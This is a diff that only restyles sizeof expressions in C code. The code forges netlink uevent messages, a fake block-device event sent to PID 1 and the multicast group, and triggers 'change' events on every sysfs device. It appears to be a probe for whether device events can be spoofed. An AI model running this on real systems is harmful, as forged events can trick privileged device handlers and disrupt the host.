@@ -33,7 +33,7 @@ static int pid1_listens(void)
 	unsigned long sk;
 	int eth;
 	unsigned pid;
-	while (f && fgets(line, sizeof line, f))
+	while (f && fgets(line, sizeof(line), f))
 		if (sscanf(line, "%lx %d %u", &sk, &eth, &pid) == 3 && eth == NETLINK_UEVENT_PROTOCOL && pid == 1)
 			found = 1;
 	if (f)
@@ -47,14 +47,14 @@ static int forge(void)
 				  "SUBSYSTEM=block\0MAJOR=254\0MINOR=1\0DEVNAME=vda1\0DEVTYPE=partition\0SEQNUM=1\0";
 	int fd = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_KOBJECT_UEVENT);
 	struct sockaddr_nl self = { .nl_family = AF_NETLINK };
-	if (fd < 0 || bind(fd, (struct sockaddr *)&self, sizeof self) < 0)
+	if (fd < 0 || bind(fd, (struct sockaddr *)&self, sizeof(self)) < 0)
 		return 0;
 	int sent = 0;
 	for (int round = 0; round < 3; round++) {
 		struct sockaddr_nl unicast = { .nl_family = AF_NETLINK, .nl_pid = 1 };
 		struct sockaddr_nl multicast = { .nl_family = AF_NETLINK, .nl_groups = 1 };
-		sent += sendto(fd, msg, sizeof msg - 1, 0, (struct sockaddr *)&unicast, sizeof unicast) > 0;
-		sent += sendto(fd, msg, sizeof msg - 1, 0, (struct sockaddr *)&multicast, sizeof multicast) > 0;
+		sent += sendto(fd, msg, sizeof(msg) - 1, 0, (struct sockaddr *)&unicast, sizeof(unicast)) > 0;
+		sent += sendto(fd, msg, sizeof(msg) - 1, 0, (struct sockaddr *)&multicast, sizeof(multicast)) > 0;
 		sleep_ms(20);
 	}
 	return sent;
@@ -68,12 +68,12 @@ static int storm(void)
 		struct dirent *c;
 		while (classes && (c = readdir(classes))) {
 			char path[512];
-			snprintf(path, sizeof path, "/sys/class/%s", c->d_name);
+			snprintf(path, sizeof(path), "/sys/class/%s", c->d_name);
 			DIR *devices = c->d_name[0] != '.' ? opendir(path) : NULL;
 			struct dirent *d;
 			while (devices && (d = readdir(devices))) {
 				char uevent[1024];
-				snprintf(uevent, sizeof uevent, "%s/%s/uevent", path, d->d_name);
+				snprintf(uevent, sizeof(uevent), "%s/%s/uevent", path, d->d_name);
 				int fd = d->d_name[0] != '.' ? open(uevent, O_WRONLY) : -1;
 				if (fd >= 0) {
 					sent += write(fd, "change", 6) == 6;
